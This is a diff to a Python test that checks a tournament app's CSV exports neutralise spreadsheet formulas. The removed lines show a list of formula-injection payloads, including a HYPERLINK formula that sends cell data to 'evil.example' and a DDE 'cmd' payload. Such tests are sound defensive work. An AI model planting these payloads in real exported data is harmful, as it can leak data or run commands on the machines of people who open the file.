@@ -5,13 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
-from tournament.extensions import db
-from tournament.services import draws as draw_service
-from tournament.services import lifecycle, play, scoring
-from tournament.services import registration as reg
+from tests.helpers import FORMULAS, played_one_session
 from tournament.services.registration import PlayerData
-
-FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
 
 
 def _risky(cells: list[str]) -> list[str]:
@@ -19,18 +14,8 @@ def _risky(cells: list[str]) -> list[str]:
 
 
 def test_every_csv_download_neutralises_formulas(organiser_client, tournament, app_ctx):
-    tournament.session_count = 1
-    for i in range(8):
-        reg.check_in(reg.add_player(tournament, PlayerData(
-            first_name=FORMULAS[i % 4], last_name=f"-Last{i}", country="FI", ema_number=f"0400{i:04d}")))
-    draw_service.draw_next(tournament, seed=3)
-    lifecycle.start_session(tournament, 1)
-    session = play.get_session(tournament, 1)
-    for table, scores in ((1, [30, 10, -15, -25]), (2, [40, -5, -5, -30])):
-        seated = [sp.player_id for sp in play.table_players(session, table)]
-        scoring.enter_totals(tournament, 1, table, dict(zip(seated, scores, strict=True)), None)
-    lifecycle.finish_session(tournament, 1)
-    db.session.commit()
+    played_one_session(tournament, lambda i: PlayerData(
+        first_name=FORMULAS[i % len(FORMULAS)], last_name=f"-Last{i}", country="FI", ema_number=f"0400{i:04d}"))
     base = f"/manage/tournaments/{tournament.id}"
     for path in (f"{base}/exports/ema-results.csv", f"{base}/players/export.csv"):
         response = organiser_client.get(path)
